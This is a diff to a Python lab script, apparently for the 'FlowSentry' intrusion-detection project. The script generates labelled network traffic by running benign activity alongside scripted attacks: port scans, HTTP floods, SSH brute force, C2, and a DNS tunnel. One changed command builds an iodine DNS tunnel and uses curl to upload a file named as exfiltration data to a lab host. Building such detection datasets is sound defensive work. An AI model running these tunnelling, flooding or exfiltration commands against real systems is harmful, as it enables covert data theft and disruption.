@@ -172,14 +172,14 @@ class Lab:
                  "market analysis security training calendar holiday support ticket").split()
         self.pages, self.objects, self.bulk = [], [], []
         for i in range(40):
-            n = int(rng.lognormvariate(8.3, 1.0)) + 300
+            n = min(int(rng.lognormvariate(8.0, 0.9)) + 300, 60_000)
             txt = " ".join(rng.choice(words) for _ in range(n // 7))
             p = f"/p{i}.html"
             open(w + "/www" + p, "w").write(f"<html><head><title>{p}</title></head><body><p>{txt}</p></body></html>\n")
             self.pages.append(p)
         for i in range(120):
             kind = rng.choice(["css", "js", "png", "jpg", "json"])
-            n = int(math.exp(rng.uniform(math.log(150), math.log(250_000))))
+            n = min(int(rng.lognormvariate(7.6, 1.2)) + 100, 100_000)
             p = f"/static/o{i}.{kind}"
             with open(w + "/www" + p, "wb") as f:
                 if kind in ("png", "jpg"):
@@ -188,7 +188,7 @@ class Lab:
                     f.write((" ".join(rng.choice(words) for _ in range(n // 7 + 1))).encode()[:n])
             self.objects.append(p)
         for i in range(12):
-            n = int(math.exp(rng.uniform(math.log(200_000), math.log(2_500_000))))
+            n = int(math.exp(rng.uniform(math.log(100_000), math.log(800_000))))
             p = f"/dl/file{i}.bin"
             with open(w + "/www" + p, "wb") as f:
                 f.write(rng.randbytes(n) if i % 3 else (" ".join(rng.choice(words) for _ in range(n // 7 + 1))).encode()[:n])
@@ -196,7 +196,7 @@ class Lab:
         open(w + "/www/index.html", "w").write("<html><body>FlowSentry lab intranet</body></html>\n")
         open(w + "/www/admin/index.html", "w").write("<html><body>admin</body></html>\n")
         open(w + "/www/status.json", "w").write('{"status":"ok","version":"4.2.1"}\n')
-        self.small = [p for p in self.pages + self.objects if os.path.getsize(w + "/www" + p) < 3000] or ["/index.html"]
+        self.small = [p for p in self.pages + self.objects if os.path.getsize(w + "/www" + p) < 1500] or ["/index.html"]
         # wordlists: random guesses, the right password sometimes in it
         allw = ["123456", "password", "qwerty", "letmein", "dragon", "monkey", "football", "iloveyou",
                 "admin", "welcome", "master", "sunshine", "princess", "shadow", "ashley", "michael"]
@@ -206,7 +206,7 @@ class Lab:
         # files for scp / ftp
         os.makedirs(f"{w}/files", exist_ok=True)
         for i in range(6):
-            n = int(math.exp(rng.uniform(math.log(20_000), math.log(900_000))))
+            n = int(math.exp(rng.uniform(math.log(10_000), math.log(300_000))))
             open(f"{w}/files/doc{i}.dat", "wb").write(rng.randbytes(n))
 
     def start_servers(self):
@@ -287,8 +287,8 @@ xferlog_enable=NO
         self.spawn("tun", ["iodined", "-f", "-c", "-P", TUN_PW, "-l", "0.0.0.0", "-p", "53",
                            "172.31.99.1/27", TUN_DOMAIN], "iodined")
         time.sleep(2)
-        self.spawn("tun", [sys.executable, "-m", "http.server", "8000", "--bind", "172.31.99.1",
-                           "--directory", f"{w}/files"], "tunhttp")
+        self.spawn("tun", [sys.executable, f"{HERE}/extserver.py", "--port", "8000", "--bind", "172.31.99.1"],
+                   "tunhttp")
 
     def spawn(self, h, argv, name):
         lf = open(f"{self.work}/{name}.log", "ab")
@@ -332,7 +332,7 @@ xferlog_enable=NO
         try:
             r = subprocess.run(argv, capture_output=True, text=True, errors="replace", timeout=timeout + 10,
                                cwd=self.work)
-            if r.returncode not in (0,) and tag != "bg":
+            if r.returncode not in (0,) and tag != "bg" and not (r.returncode == 1 and "hping" in cmd):
                 log(f"  [{tag}] rc={r.returncode} {cmd[:100]} :: {r.stderr.strip()[-200:]}")
             return r
         except subprocess.TimeoutExpired:
@@ -342,8 +342,8 @@ xferlog_enable=NO
     # benign actions ---------------------------------------------------------
     def bg_action(self, h, rng):
         a, s = self.addr, self.scale
-        k = rng.choices(["web", "web", "web", "tls", "ext", "bulk", "dns", "ssh", "scp", "iperf",
-                         "ntp", "ftp", "poll", "idle", "idle"], k=1)[0]
+        k = rng.choices(["web", "tls", "ext", "bulk", "dns", "ssh", "scp", "iperf", "ntp", "ftp", "poll", "idle"],
+                        weights=[3, 1, 1, 0.5, 2, 1, 0.7, 0.7, 1, 0.5, 0.5, 2], k=1)[0]
         ua = rng.choice(["Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
                          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/119.0",
                          "curl/7.88.1"])
@@ -391,10 +391,10 @@ xferlog_enable=NO
         elif k == "iperf":
             port = rng.choice([5201, 5202])
             if rng.random() < 0.7:
-                c = f"iperf3 -c {a['files']} -p {port} -t {rng.randint(1, 3)} -b {rng.choice(['1M', '2M', '4M'])} {rng.choice(['', '-R'])}"
+                c = f"iperf3 -c {a['files']} -p {port} -t {int(rng.randint(1, 2) * min(s, 4))} -b {rng.choice(['200K', '500K', '1M'])} {rng.choice(['', '-R'])}"
             else:
-                c = f"iperf3 -c {a['files']} -p {port} -u -t {rng.randint(1, 3)} -b {rng.choice(['300K', '1M'])} -l {rng.randint(200, 1400)}"
-            self.run(h, c + " >/dev/null", 15, "bg")
+                c = f"iperf3 -c {a['files']} -p {port} -u -t {rng.randint(1, 2)} -b {rng.choice(['100K', '300K', '600K'])} -l {rng.randint(200, 1400)}"
+            self.run(h, c + " >/dev/null", 15 * min(s, 4), "bg")
         elif k == "ntp":
             self.run(h, f"ntpdate -q {'-u ' if rng.random() < 0.5 else ''}ntp.lab.test >/dev/null", 15, "bg")
         elif k == "ftp":
@@ -572,7 +572,7 @@ xferlog_enable=NO
             obj = rng.choice(self.small)
             if kind == "http-flood-ab":
                 rec["tool"] = "ab"
-                c = f"ab -q -n {int(rng.randint(300, 900) * s)} -c {rng.randint(5, 50)} {rng.choice(['-k', ''])} http://{a[v]}{obj}"
+                c = f"ab -q -n {int(rng.randint(200, 600) * s)} -c {rng.randint(5, 50)} {rng.choice(['-k', ''])} http://{a[v]}{obj}"
                 tmo = 60 * s
             elif kind == "http-flood-wrk":
                 rec["tool"] = "wrk"
@@ -634,9 +634,10 @@ xferlog_enable=NO
             up = rng.randint(20, 120) * 1000
             c = (f"iodine -f -r -P {TUN_PW} -T {T} -m 1000 {a['dns']} {TUN_DOMAIN} & IOD=$!; "
                  f"for i in $(seq 1 40); do ip -4 addr show dns0 2>/dev/null | grep -q inet && break; sleep 0.5; done; "
+                 f"ip -4 addr show dns0 | grep -q inet || echo 'iodine: no tunnel' >&2; "
                  f"head -c {up} /dev/urandom > /tmp/fs-exfil-{at}.bin; "
-                 f"curl -s --max-time {dur} -o /dev/null http://172.31.99.1:8000/doc{rng.randrange(6)}.dat --limit-rate 20k; "
-                 f"curl -s --max-time {dur // 2} -o /dev/null -X POST --data-binary @/tmp/fs-exfil-{at}.bin http://172.31.99.1:8000/up; "
+                 f"curl -s --max-time {dur // 2} -o /dev/null http://172.31.99.1:8000/blob/{rng.randint(20, 150) * 1000}; "
+                 f"curl -s --max-time {dur // 2} -o /dev/null --data-binary @/tmp/fs-exfil-{at}.bin http://172.31.99.1:8000/up; "
                  f"sleep {rng.randint(2, 6)}; kill $IOD; wait $IOD; rm -f /tmp/fs-exfil-{at}.bin")
             rule(["dns"], {17})
             rec["rules"].append({"a": {a["dns"]}, "b": {a["tun"]}, "proto": {17}, "bport": None, "lab": lab})
@@ -741,9 +742,9 @@ xferlog_enable=NO
 
 
 PLANS = {
-    "benign-1": {"duration": 50, "workers": 4},
-    "benign-2": {"duration": 45, "workers": 3},
-    "benign-3": {"duration": 40, "workers": 5},
+    "benign-1": {"duration": 45, "workers": 4},
+    "benign-2": {"duration": 40, "workers": 3},
+    "benign-3": {"duration": 35, "workers": 4},
     "attack-scan": {"duration": 30, "workers": 2, "sequential": True,
                     "attacks": ["nmap-syn", "nmap-connect", "nmap-udp", "nmap-version-os", "masscan"]},
     "attack-dos": {"duration": 30, "workers": 2, "sequential": True,
@@ -763,7 +764,7 @@ def mixed_plan(name, seed):
     att = [r.choice(SCAN), r.choice(DOS), r.choice(BRUTE), "webattack", "dns-tunnel", "c2"]
     if r.random() < 0.5:
         att.append(r.choice(SCAN + DOS))
-    return {"duration": 100, "workers": 5, "attacks": att}
+    return {"duration": 80, "workers": 4, "attacks": att}
 
 
 def cleanup_namespaces():
@@ -803,11 +804,14 @@ def main():
     plans = dict(PLANS)
     for m in ("mixed-1", "mixed-2", "mixed-3"):
         plans[m] = mixed_plan(m, args.seed)
-    plans["demo"] = {"duration": 35, "workers": 2, "attacks": ["nmap-syn", "c2", "hydra-ssh"]}
+    plans["demo"] = {"duration": 30, "workers": 2, "attacks": ["nmap-syn", "c2", "hydra-ssh"]}
+    # benchmark capture (not made by default): benign background with every attack,
+    # meant for --scale N --out lab-out
+    plans["bench"] = {"duration": 60, "workers": 6, "attacks": SCAN + DOS + BRUTE + ["webattack", "dns-tunnel", "c2"]}
     if args.attacks:
         plans["probe"] = {"duration": 10, "workers": 1, "sequential": True, "attacks": args.attacks.split(",")}
         args.only = "probe"
-    names = [x for x in args.only.split(",") if x] or list(plans)
+    names = [x for x in args.only.split(",") if x] or [p for p in plans if p != "bench"]
     for n in names:
         if n not in plans:
             sys.exit(f"unknown capture {n}; known: {', '.join(plans)}")
